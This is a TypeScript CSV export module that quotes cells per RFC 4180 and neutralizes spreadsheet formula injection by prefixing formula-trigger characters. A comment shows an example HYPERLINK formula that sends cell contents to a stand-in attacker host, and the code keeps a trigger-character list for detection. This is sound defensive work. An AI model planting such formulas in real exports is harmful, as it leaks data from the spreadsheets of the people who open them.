/**
 * The one CSV writer for every file the product hands out (the import template today; contact
 * and report exports next). Browser-safe: no Node APIs, so a page can build a download itself.
 *
 * Two jobs:
 * - RFC 4180 quoting: a cell holding a comma, a double quote, CR or LF is wrapped in double quotes
 *   with inner quotes doubled; records end with CRLF.
 * - Formula neutralization (OWASP "CSV Injection", ASVS 1.2.10): Excel, LibreOffice and Google
 *   Sheets evaluate a cell whose first character is `=`, `+`, `-`, `@`, tab or CR as a formula, so
 *   a post or contact name like `=HYPERLINK("https://evil.example?"&A1)` would run in the
 *   spreadsheet of whoever opens the export. Such a cell gets a leading `'`, which spreadsheets
 *   read as "this is text". LF and NUL are included too: some importers strip a leading newline
 *   and evaluate what follows.
 *
 * Numbers are written as they are (a negative number is not a formula); pass numeric data as
 * `number`, not as a string, or "-5" comes out as the text "'-5".
 */

export type CsvValue = string | number | boolean | null | undefined;

/** Characters that make a spreadsheet treat the cell as a formula when they come first. */
const FORMULA_TRIGGERS = new Set(["=", "+", "-", "@", "\t", "\r", "\n", "\0"]);
const NEEDS_QUOTES = /[",\r\n]/;

/** The text of one cell, before quoting: formula triggers neutralized. */
function inertText(value: CsvValue): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number" && Number.isFinite(value)) return String(value);
  if (typeof value === "boolean") return value ? "true" : "false";
  // Non-finite numbers ("-Infinity") fall through and are treated like any other text.
  const text = String(value);
  return text.length > 0 && FORMULA_TRIGGERS.has(text.charAt(0)) ? `'${text}` : text;
}

/** One cell, neutralized and quoted, ready to join with commas. */
export function csvCell(value: CsvValue): string {
  const text = inertText(value);
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/** A whole file: one record per row, CRLF line ends, no trailing line break (RFC 4180 §2.2). */
export function toCsv(rows: readonly (readonly CsvValue[])[]): string {
  return rows.map((row) => row.map(csvCell).join(",")).join("\r\n");
}

/**
 * The inverse of the neutralization, for files we read back (an edited template): a cell that
 * starts with `'` followed by a formula trigger is the text after the quote. A spreadsheet that
 * understood the quote drops it on save, one that did not keeps it; both import the same.
 */
export function readCsvCell(text: string): string {
  return text.length > 1 && text.charAt(0) === "'" && FORMULA_TRIGGERS.has(text.charAt(1)) ? text.slice(1) : text;
}
